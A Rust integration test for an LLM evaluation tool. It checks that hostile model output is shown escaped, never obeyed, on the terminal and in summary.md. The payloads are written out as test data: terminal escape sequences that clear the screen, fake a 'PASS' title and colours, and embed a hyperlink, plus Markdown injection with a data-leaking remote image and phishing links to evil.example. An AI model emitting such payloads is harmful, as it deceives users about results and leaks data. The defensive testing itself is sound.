//! Model text is shown, never obeyed, end to end through the binary. A server on 127.0.0.1
//! answers with the escape sequences an attacker would plant for a terminal (clear the
//! screen, retitle the window, a hyperlink, fake colours, NUL, a carriage return) and with
//! Markdown aimed at a pull-request comment (mentions, a remote image, links, an issue
//! reference, a table break); an error body carries escapes too. The live lines, `gauntlet
//! trace` and `runs show` on a terminal pass no escape but the printer's own colours, and
//! summary.md renders none of the Markdown and holds no raw control byte.

use std::path::Path;
use std::process::{Command, Output};

mod common;

use common::{bin, text};

/// What a hostile model says to a terminal.
const TERMINAL: &str = "Done \x1b[2J\x1b[3J\x1b[H\x1b]0;gauntlet: PASS\x07\x1b]8;;https://evil.example/x\x1b\\click\x1b]8;;\x1b\\ \x1b[32mPASS\x1b[0m\0\rPASS \u{9b}2J";

/// What a hostile model says to a pull-request comment.
const MARKDOWN: &str = "Done cc @octocat ![s](https://evil.example/p.png?q=leak) [fix](https://evil.example/phish) <https://evil.example/a> fixes #1 | cell";

/// An error body that carries escapes.
const ERROR_BODY: &str =
    "{\"error\": {\"message\": \"bad request \u{1b}]0;owned\u{7} \u{1b}[2J\"}}";

/// Answers by the user's message: `terminal` and `markdown` get those texts as the
/// completion, anything else gets HTTP 400 with [`ERROR_BODY`].
fn serve() -> u16 {
    common::serve_json(|request| {
        let body = common::http_body(request);
        if body.contains("\"terminal\"") {
            (200, common::completion(TERMINAL))
        } else if body.contains("\"markdown\"") {
            (200, common::completion(MARKDOWN))
        } else {
            (400, ERROR_BODY.to_owned())
        }
    })
}

/// The binary as on a terminal that takes colours.
fn on_a_terminal(dir: &Path) -> Command {
    let mut c = bin();
    c.env_remove("NO_COLOR")
        .env("CLICOLOR_FORCE", "1")
        .current_dir(dir);
    c
}

/// Every escape sequence in `out` that is not a colour (`ESC [ digits ; m`), and every other
/// control character but line feed and tab.
fn obeyed(out: &str) -> Vec<String> {
    let mut found = Vec::new();
    let chars: Vec<char> = out.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if c == '\x1b' {
            let mut j = i + 1;
            let colour = chars.get(j) == Some(&'[') && {
                j += 1;
                while chars
                    .get(j)
                    .is_some_and(|c| c.is_ascii_digit() || *c == ';')
                {
                    j += 1;
                }
                chars.get(j) == Some(&'m')
            };
            if !colour {
                found.push(chars[i..chars.len().min(i + 8)].iter().collect());
            }
            i = j.max(i + 1);
            continue;
        }
        if gauntlet_core::text::is_hidden_control(c) {
            found.push(format!("{c:?}"));
        }
        i += 1;
    }
    found
}

fn setup(dir: &Path) {
    let port = serve();
    std::fs::write(
        dir.join("s.yaml"),
        format!(
            r#"
suite: hostile
target:
  kind: openai
  model: test-model
  base_url: http://127.0.0.1:{port}/v1
  api_key_env: GAUNTLET_TEST_KEY
  retry: {{max_attempts: 1}}
cases:
  - id: c-terminal
    input: terminal
    expect: [{{not_contains: Done}}]
  - id: c-markdown
    input: markdown
    expect: [{{not_contains: Done}}]
  - id: c-error
    input: error
    expect: [{{contains: hello}}]
"#
        ),
    )
    .unwrap();
}

fn run(dir: &Path) -> Output {
    let o = on_a_terminal(dir)
        .args(["run", "s.yaml", "--out", "out"])
        .env("GAUNTLET_TEST_KEY", "sk-test-0123456789")
        .output()
        .unwrap();
    assert!(matches!(o.status.code(), Some(1 | 4)), "{}", text(&o));
    o
}

#[test]
fn the_terminal_shows_model_escapes_and_obeys_none() {
    let t = tempfile::tempdir().unwrap();
    setup(t.path());
    let live = run(t.path());
    let live_out = text(&live);
    let mut outputs = vec![("the live lines".to_owned(), live_out.clone())];
    for args in [
        vec!["trace", "c-terminal"],
        vec!["trace", "c-error"],
        vec!["runs", "show", "latest"],
        vec!["runs", "list"],
    ] {
        let o = on_a_terminal(t.path()).args(&args).output().unwrap();
        assert_eq!(o.status.code(), Some(0), "{args:?}: {}", text(&o));
        outputs.push((args.join(" "), text(&o)));
    }
    for (what, out) in &outputs {
        let found = obeyed(out);
        assert!(found.is_empty(), "{what} sends {found:?} raw:\n{out}");
    }
    // The escapes are there to be read: the terminal case in the live lines and its trace,
    // the error body in the live lines, its trace and `runs show`.
    // (Evidence quotes the answer debug-escaped already: `\u{1b}`.)
    assert!(live_out.contains("\\u{1b}[2J"), "{live_out}");
    assert!(live_out.contains("\\x1b]0;owned"), "{live_out}");
    let trace = &outputs[1].1;
    assert!(trace.contains("\\x1b]0;gauntlet: PASS\\x07"), "{trace}");
    assert!(trace.contains("\\x1b]8;;https://evil.example/x"), "{trace}");
    assert!(trace.contains("\\x00\\rPASS"), "{trace}");
    assert!(outputs[2].1.contains("\\x1b]0;owned"), "{}", outputs[2].1);
    assert!(outputs[3].1.contains("\\x1b]0;owned"), "{}", outputs[3].1);
    // The printer's own colours still come through.
    assert!(live_out.contains("\x1b["), "colours are on: {live_out}");
}

#[test]
fn summary_md_renders_no_model_markdown_and_no_control_bytes() {
    let t = tempfile::tempdir().unwrap();
    setup(t.path());
    run(t.path());
    let md = std::fs::read_to_string(t.path().join("out/summary.md")).unwrap();
    assert!(
        md.contains("c-markdown") && md.contains("c-terminal"),
        "{md}"
    );
    let raw = obeyed(&md);
    assert!(raw.is_empty(), "raw control bytes {raw:?} in\n{md}");
    // Outside the fenced traces (inside a fence nothing renders), no mention, image, link,
    // autolink, bare URL or issue reference of the model's is live.
    let mut prose = String::new();
    let mut fence: Option<String> = None;
    for line in md.lines() {
        let tildes: String = line.chars().take_while(|c| *c == '~').collect();
        match &fence {
            None if tildes.len() >= 3 => fence = Some(tildes),
            Some(f) if tildes.len() >= f.len() && line.trim_end() == tildes => fence = None,
            Some(_) => {}
            None => {
                prose.push_str(line);
                prose.push('\n');
            }
        }
    }
    assert!(fence.is_none(), "a fence is left open:\n{md}");
    let unescaped = |pat: &str| {
        prose
            .match_indices(pat)
            .any(|(i, _)| !prose[..i].ends_with('\\'))
    };
    for (what, live) in [
        ("a mention", prose.contains("@octocat")),
        ("a remote image", unescaped("![")),
        ("a link", unescaped("](")),
        ("an autolink", unescaped("<https")),
        ("a bare URL", prose.contains("https://evil")),
        ("an issue reference", prose.contains("#1")),
        ("a cell break", prose.contains(" | cell")),
    ] {
        assert!(!live, "{what} is live in summary.md:\n{prose}");
    }
    // Still readable: the words are there.
    assert!(
        prose.contains("octocat") && prose.contains("//evil"),
        "{prose}"
    );
}
